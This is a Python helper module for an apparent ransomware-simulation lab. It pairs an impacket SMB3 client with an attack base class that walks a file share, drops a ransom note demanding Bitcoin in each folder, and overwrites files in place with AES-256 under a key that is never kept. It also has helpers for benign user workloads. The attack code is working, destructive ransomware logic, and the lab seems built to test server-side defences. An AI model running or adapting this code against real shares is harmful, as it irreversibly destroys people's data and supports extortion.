"""SMB3 client helpers shared by the lab's attack and workload scripts (impacket, Windows-like retries)."""

import io
import os
import random
import secrets
import socket
import string
import sys
import time

from Cryptodome.Cipher import AES
from Cryptodome.Random import get_random_bytes
from impacket import nt_errors
from impacket.nmb import NetBIOSError, NetBIOSTimeout
from impacket.smb3structs import (FILE_OPEN, FILE_OPEN_IF, FILE_OVERWRITE_IF, FILE_READ_ATTRIBUTES, FILE_READ_DATA,
				  FILE_WRITE_DATA, SMB2_DIALECT_30)
from impacket.smbconnection import SMBConnection, SessionError

NOTE_TEXT = (
	"!!! ALL YOUR FILES ARE ENCRYPTED !!!\r\n\r\n"
	"Your documents, photos, databases and other important files have been encrypted\r\n"
	"with a strong algorithm and a unique key generated for this computer.\r\n\r\n"
	"The private decryption key is stored on a secret server. Nobody can decrypt\r\n"
	"your files without it. To receive the key, pay 0.5 Bitcoin to the address below\r\n"
	"within 72 hours, then send your personal ID to the e-mail address below.\r\n\r\n"
	"  Bitcoin address: 1LabDemoAddrDoNotPayXXXXXXXXXXXXX\r\n"
	"  E-mail:          decrypt-your-files@example.invalid\r\n\r\n"
	"Any attempt to restore the files with third-party software will destroy them.\r\n"
).encode()

# Status codes that mean "the server refuses this user": retrying cannot help.
REFUSALS = {
	nt_errors.STATUS_ACCOUNT_DISABLED,
	nt_errors.STATUS_ACCOUNT_LOCKED_OUT,
	nt_errors.STATUS_LOGON_FAILURE,
	nt_errors.STATUS_ACCESS_DENIED,
	nt_errors.STATUS_ACCOUNT_RESTRICTION,
	nt_errors.STATUS_ACCOUNT_EXPIRED,
	nt_errors.STATUS_PASSWORD_EXPIRED,
	nt_errors.STATUS_NETWORK_ACCESS_DENIED,
	nt_errors.STATUS_BAD_NETWORK_NAME,
}

# Status codes that mean the session or tree is gone: reconnect, as Windows does.
DROPPED = {
	nt_errors.STATUS_USER_SESSION_DELETED,
	nt_errors.STATUS_NETWORK_SESSION_EXPIRED,
	nt_errors.STATUS_NETWORK_NAME_DELETED,
	nt_errors.STATUS_CONNECTION_DISCONNECTED,
	nt_errors.STATUS_CONNECTION_RESET,
	nt_errors.STATUS_CONNECTION_ABORTED,
	nt_errors.STATUS_INVALID_NETWORK_RESPONSE,
	nt_errors.STATUS_UNEXPECTED_NETWORK_ERROR,
	nt_errors.STATUS_FILE_CLOSED,
	nt_errors.STATUS_INVALID_HANDLE,
}

# Status codes of one file that went away or is busy: skip it and go on.
MISSING = {
	nt_errors.STATUS_OBJECT_NAME_NOT_FOUND,
	nt_errors.STATUS_OBJECT_PATH_NOT_FOUND,
	nt_errors.STATUS_NO_SUCH_FILE,
	nt_errors.STATUS_SHARING_VIOLATION,
	nt_errors.STATUS_OBJECT_NAME_COLLISION,
	nt_errors.STATUS_DELETE_PENDING,
	nt_errors.STATUS_FILE_IS_A_DIRECTORY,
}

RECONNECT_TRIES = 5
RECONNECT_PAUSE = 0.2
# After this many refusals in a row on single files, the client gives up: nothing works any more.
DENIED_LIMIT = 3


def ms():
	return int(time.time() * 1000)


def out(line):
	sys.stdout.write(line + "\n")
	sys.stdout.flush()


def status_name(code):
	return nt_errors.ERROR_MESSAGES.get(code, ("0x%08x" % code,))[0]


class Refused(Exception):
	"""The server no longer lets this user work (account disabled, access denied, unreachable)."""


class Client:
	"""One SMB3 session to $SMB_SERVER as $SMB_USER, connected to $SMB_SHARE."""

	def __init__(self, server=None, share=None, user=None, password=None, timeout=5):
		env = os.environ
		self.server = server or env.get("SMB_SERVER", "10.77.0.1")
		self.share = share or env.get("SMB_SHARE", "data")
		self.user = user or env.get("SMB_USER", "alice")
		self.password = password if password is not None else env.get("SMB_PASS", "")
		# A domain lab's users log on as LAB\\alice (NTLM), or with Kerberos when SMB_KERBEROS=1.
		self.domain = env.get("SMB_DOMAIN", "")
		self.kerberos = env.get("SMB_KERBEROS", "") == "1"
		self.kdc = env.get("DC_IP", None)
		self.timeout = timeout
		self.conn = None
		self.tid = None
		self.denied = 0
		self.reconnects = 0

	def connect(self):
		"""Connects and logs in; login refusals raise Refused, network errors propagate."""
		self.close()
		# Kerberos names the server by its host name (the ticket is for cifs/NAME): SMB_SERVER_NAME.
		name = os.environ.get("SMB_SERVER_NAME") or self.server
		conn = SMBConnection(name, self.server, sess_port=445, timeout=self.timeout,
				     preferredDialect=SMB2_DIALECT_30)
		try:
			if self.kerberos:
				conn.kerberosLogin(self.user, self.password, self.domain, kdcHost=self.kdc)
			else:
				conn.login(self.user, self.password, self.domain)
			tid = conn.connectTree(self.share)
		except SessionError as e:
			try:
				conn.getSMBServer().get_socket().close()
			except Exception:
				pass
			if e.getErrorCode() in REFUSALS:
				raise Refused(status_name(e.getErrorCode()))
			raise
		self.conn, self.tid = conn, tid

	def close(self):
		if self.conn is not None:
			try:
				self.conn.close()
			except Exception:
				pass
		self.conn = self.tid = None

	def reconnect(self):
		"""Up to RECONNECT_TRIES new sessions with the same credentials, RECONNECT_PAUSE apart."""
		self.close()
		last = None
		for _ in range(RECONNECT_TRIES):
			time.sleep(RECONNECT_PAUSE)
			try:
				self.connect()
				self.reconnects += 1
				return
			except Refused:
				raise
			except (OSError, NetBIOSError, NetBIOSTimeout, SessionError) as e:
				last = e
		raise Refused(f"cannot reconnect: {describe(last)}")

	def retry(self, fn, skip_missing=False):
		"""Runs fn; reconnects on a dropped session and runs it again. With skip_missing,
		a file that vanished, is busy or is refused alone returns None instead of raising."""
		for attempt in range(RECONNECT_TRIES + 1):
			try:
				if self.conn is None:
					self.reconnect()
				r = fn()
				self.denied = 0
				return r
			except SessionError as e:
				code = e.getErrorCode()
				if code in DROPPED:
					self.reconnect()
					continue
				if code in REFUSALS:
					self.denied += 1
					if not skip_missing or self.denied >= DENIED_LIMIT:
						raise Refused(status_name(code))
					return None
				if skip_missing and code in MISSING:
					return None
				raise
			except (OSError, NetBIOSError, NetBIOSTimeout, socket.timeout) as e:
				print(f"connection lost: {describe(e)}", file=sys.stderr)
				self.reconnect()
		raise Refused("the session keeps dropping")

	def list_dir(self, path):
		"""Names of the files and of the folders in path (share-relative, '\\' separated), sorted."""
		files, dirs = [], []
		pattern = (path + "\\*") if path else "*"
		for f in self.conn.listPath(self.share, pattern):
			name = f.get_longname()
			if name in (".", ".."):
				continue
			(dirs if f.is_directory() else files).append(name)
		return sorted(files), sorted(dirs)

	def put(self, path, data):
		self.conn.putFile(self.share, path, io.BytesIO(data).read)

	def get(self, path):
		buf = io.BytesIO()
		self.conn.getFile(self.share, path, buf.write)
		return buf.getvalue()

	def rename(self, old, new):
		self.conn.rename(self.share, old, new)

	def write_at(self, path, offset, data, create=False):
		"""Writes data at offset of path through one handle, without truncating it (an in-place update, an
		append); create: make the file when missing."""
		conn, tid = self.conn, self.tid
		fid = conn.createFile(tid, path, desiredAccess=FILE_READ_DATA | FILE_WRITE_DATA | FILE_READ_ATTRIBUTES,
				      creationDisposition=FILE_OPEN_IF if create else FILE_OPEN)
		try:
			conn.writeFile(tid, fid, data, offset)
		finally:
			conn.closeFile(tid, fid)

	def read_at(self, path, offset, length):
		conn, tid = self.conn, self.tid
		fid = conn.openFile(tid, path, desiredAccess=FILE_READ_DATA)
		try:
			return conn.readFile(tid, fid, offset, length)
		finally:
			conn.closeFile(tid, fid)

	def delete(self, path):
		self.conn.deleteFile(self.share, path)

	def mkdir(self, path):
		self.conn.createDirectory(self.share, path)


def join(folder, name):
	"""Share-relative path of name in folder ("" is the share root)."""
	return folder + "\\" + name if folder else name


def describe(e):
	if isinstance(e, SessionError):
		return status_name(e.getErrorCode())
	return f"{type(e).__name__}: {e}"


def walk(client, folder=""):
	"""Share-relative paths of every file under folder, depth first in listing order (as the attacks walk)."""
	files, dirs = client.list_dir(folder)
	paths = [join(folder, f) for f in files]
	for d in dirs:
		paths += walk(client, join(folder, d))
	return paths


def env_folder(name, default=""):
	"""A share-relative folder from the environment, '\\' separated, without leading or trailing separators."""
	return os.environ.get(name, default).strip("/\\").replace("/", "\\")


# ---------------------------------------------------------------- attacks

class Attack:
	"""What every attack family shares with classic.py: the walk (depth first; in each folder its note, its
	files in listing order, then its subfolders), ATTACK_MAX_FILES and ATTACK_ROOT, the output lines and
	the Windows-like reconnects. A family says what it does to one file (damage, then finish) and which
	names are its own (skip). A file counts once its contents are lost, even when a later step (a rename)
	is refused; a step retried after a dropped session never writes twice."""

	note_name = None	# dropped in each folder before its files; None: no note
	note_text = NOTE_TEXT

	def __init__(self, client=None):
		self.c = client or Client()
		limit = os.environ.get("ATTACK_MAX_FILES")
		self.limit = int(limit) if limit else None
		self.root = env_folder("ATTACK_ROOT")
		self.count = 0
		self.started = False
		self.key = get_random_bytes(32)

	def cipher(self):
		"""AES-256-CTR with the attack's key and a fresh nonce: one per file."""
		return AES.new(self.key, AES.MODE_CTR, nonce=get_random_bytes(8))

	def start(self):
		if not self.started:
			self.started = True
			out(f"start {ms()}")

	def full(self):
		return self.limit is not None and self.count >= self.limit

	def skip(self, name):
		"""True for names the attack made itself (its note, its encrypted copies)."""
		return name == self.note_name

	def damage(self, path):
		"""Destroys the contents of path; returns the ms of the first write, or None when the file was skipped."""
		raise NotImplementedError

	def finish(self, path):
		"""What follows the damage (a rename); the file counts as lost whatever happens here."""

	def file(self, path):
		first = self.damage(path)
		if first is None:
			return False
		try:
			self.finish(path)
		finally:
			self.count += 1
			out(f"encrypted {first} {ms()} /{path.replace(chr(92), '/')}")
		return True

	def drop_note(self, path):
		self.c.retry(lambda: self.c.put(join(path, self.note_name), self.note_text))

	def folder(self, path):
		if self.full():
			return
		files, dirs = self.c.retry(lambda: self.c.list_dir(path))
		self.start()
		if self.note_name:
			self.drop_note(path)
		for name in files:
			if self.full():
				return
			if self.skip(name):
				continue
			self.file(join(path, name))
		for name in dirs:
			self.folder(join(path, name))

	def walk(self):
		self.folder(self.root)

	def run(self):
		"""The whole attack with its output; exit status 0 also when the server stopped it."""
		try:
			self.c.connect()
			self.walk()
		except Refused as e:
			self.start()
			out(f"stopped {ms()} {e}")
		finally:
			self.c.close()
		out(f"files_encrypted {self.count}")
		return 0

	# Steps, each retried on its own.

	def rewrite(self, path, transform, length=None):
		"""Reads path (its first length bytes, or all of it) and writes transform(data) back at offset 0
		through the same handle, as in-place encryptors do. Returns the ms of the write, or None when
		the file is gone, busy or refused."""
		state = {}

		def step():
			if "first" in state:
				return state["first"]
			conn, tid = self.c.conn, self.c.tid
			fid = conn.openFile(tid, path, desiredAccess=FILE_READ_DATA | FILE_WRITE_DATA)
			try:
				data = read_handle(conn, tid, fid, length)
				if not data:
					return None
				new = transform(data)
				first = ms()
				conn.writeFile(tid, fid, new, 0)
				state["first"] = first
			finally:
				try:
					conn.closeFile(tid, fid)
				except Exception:
					pass
			return first

		return self.c.retry(step, skip_missing=True)

	def read(self, path):
		"""The whole file, or None when it is gone, busy or refused."""
		def step():
			conn, tid = self.c.conn, self.c.tid
			fid = conn.openFile(tid, path, desiredAccess=FILE_READ_DATA)
			try:
				return read_handle(conn, tid, fid)
			finally:
				try:
					conn.closeFile(tid, fid)
				except Exception:
					pass
		return self.c.retry(step, skip_missing=True)

	def write_new(self, path, data):
		"""Creates (or truncates) path and writes data; returns the ms of the write, or None."""
		state = {}

		def step():
			if "first" in state:
				return state["first"]
			conn, tid = self.c.conn, self.c.tid
			fid = conn.createFile(tid, path, desiredAccess=FILE_WRITE_DATA | FILE_READ_ATTRIBUTES,
					      creationDisposition=FILE_OVERWRITE_IF)
			try:
				first = ms()
				conn.writeFile(tid, fid, data, 0)
				state["first"] = first
			finally:
				try:
					conn.closeFile(tid, fid)
				except Exception:
					pass
			return first

		return self.c.retry(step, skip_missing=True)

	def rename_to(self, path, new):
		"""True when path was renamed to new."""
		return self.c.retry(lambda: self.c.rename(path, new) or True, skip_missing=True) is not None

	def remove(self, path):
		"""True when path was deleted."""
		return self.c.retry(lambda: self.c.delete(path) or True, skip_missing=True) is not None


def read_handle(conn, tid, fid, length=None):
	"""Reads an open file from offset 0 to its end, or its first length bytes."""
	data = bytearray()
	while length is None or len(data) < length:
		want = 1 << 20 if length is None else min(1 << 20, length - len(data))
		chunk = conn.readFile(tid, fid, len(data), want)
		if not chunk:
			break
		data += chunk
	return bytes(data)


def random_name(n, alphabet=string.ascii_lowercase):
	"""n characters drawn from alphabet by the system's CSPRNG (ransomware does not use a seeded PRNG)."""
	return "".join(secrets.choice(alphabet) for _ in range(n))


# ---------------------------------------------------------------- workloads

class Stopped(Exception):
	"""A workload's user was refused: nothing more can work, the workload ends (already counted as failed)."""


class Ops:
	"""A benign workload's tally. Each user action runs once through the client's retries; one that fails,
	or that needed a new session because the old one was cut, counts as failed (a user would have seen an
	error). A refusal ends the workload: Stopped."""

	def __init__(self, client):
		self.c = client
		self.ok = 0
		self.failed = 0

	def do(self, what, fn):
		"""Runs fn as one action; returns its result (True when it has none), or None when it failed."""
		before = self.c.reconnects
		try:
			r = self.c.retry(fn)
			if self.c.reconnects != before:
				raise RuntimeError("the session was cut and had to be opened again")
			self.ok += 1
			return True if r is None else r
		except Refused as e:
			self.failed += 1
			print(f"{what}: refused: {e}", file=sys.stderr, flush=True)
			raise Stopped(f"{what}: refused: {e}") from e
		except Exception as e:
			self.failed += 1
			print(f"{what}: {describe(e)}", file=sys.stderr, flush=True)
			return None

	def fail(self, what):
		self.failed += 1
		print(what, file=sys.stderr, flush=True)

	def report(self):
		print(f"ops_ok {self.ok} ops_failed {self.failed}", flush=True)
		return 1 if self.failed else 0


def workload_rng():
	"""The workload's random source, the same on every run: seeded by SW_LAB_SEED (default 1), the script and the
	user. SW_LAB_SEED=random gives a new one each run (to explore; print it with the failure to replay it)."""
	seed = os.environ.get("SW_LAB_SEED", "1")
	if seed == "random":
		return random.Random()
	return random.Random(f"{seed}:{os.path.basename(sys.argv[0])}:{os.environ.get('SMB_USER', '')}")


def run_workload(body):
	"""Connects as $SMB_USER, runs body(client, ops), prints the tally; exit status 1 when any action failed."""
	client = Client()
	ops = Ops(client)
	try:
		client.connect()
		body(client, ops)
	except Stopped as e:
		print(f"stopped: {e}", file=sys.stderr, flush=True)
	except Exception as e:
		ops.fail(f"workload: {describe(e)}")
	finally:
		client.close()
	return ops.report()


def ensure_folder(client, ops, path):
	"""Creates path and its parents when missing (each creation is one action)."""
	parts = [p for p in path.split("\\") if p]
	for i in range(1, len(parts) + 1):
		sub = "\\".join(parts[:i])
		parent = "\\".join(parts[:i - 1])
		_, dirs = client.retry(lambda parent=parent: client.list_dir(parent))
		if parts[i - 1] not in dirs:
			ops.do(f"mkdir {sub}", lambda sub=sub: client.mkdir(sub))
